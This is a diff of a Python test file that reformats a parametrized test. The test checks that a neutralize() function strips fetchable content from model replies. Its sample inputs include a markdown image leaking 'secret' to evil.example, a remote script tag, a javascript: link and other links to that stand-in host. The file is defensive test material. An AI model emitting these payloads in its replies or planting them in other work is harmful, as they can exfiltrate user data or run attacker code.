@@ -15,15 +15,18 @@ def test_normalize_handles_hostile_text() -> None:
     assert normalize(None, 10).text == "" and normalize("\n\t  ", 10).text == ""
 
 
-@pytest.mark.parametrize("reply", [
-    "Kijk hier ![x](https://evil.example/?d=secret)",
-    "<img src=https://evil.example/a.png>",
-    "Zie [link](http://evil.example/page) en https://evil.example/x",
-    "<script src='//evil.example/s.js'></script>",
-    "[ref]: https://evil.example/p\nKlik [hier][ref]",
-    "www.evil.example/path",
-    "<a href='javascript:alert(1)'>klik</a>",
-])
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "Kijk hier ![x](https://evil.example/?d=secret)",
+        "<img src=https://evil.example/a.png>",
+        "Zie [link](http://evil.example/page) en https://evil.example/x",
+        "<script src='//evil.example/s.js'></script>",
+        "[ref]: https://evil.example/p\nKlik [hier][ref]",
+        "www.evil.example/path",
+        "<a href='javascript:alert(1)'>klik</a>",
+    ],
+)
 def test_neutralize_leaves_nothing_fetchable(reply: str) -> None:
     out = neutralize(reply)
     assert "<img" not in out and "<script" not in out and "<a " not in out
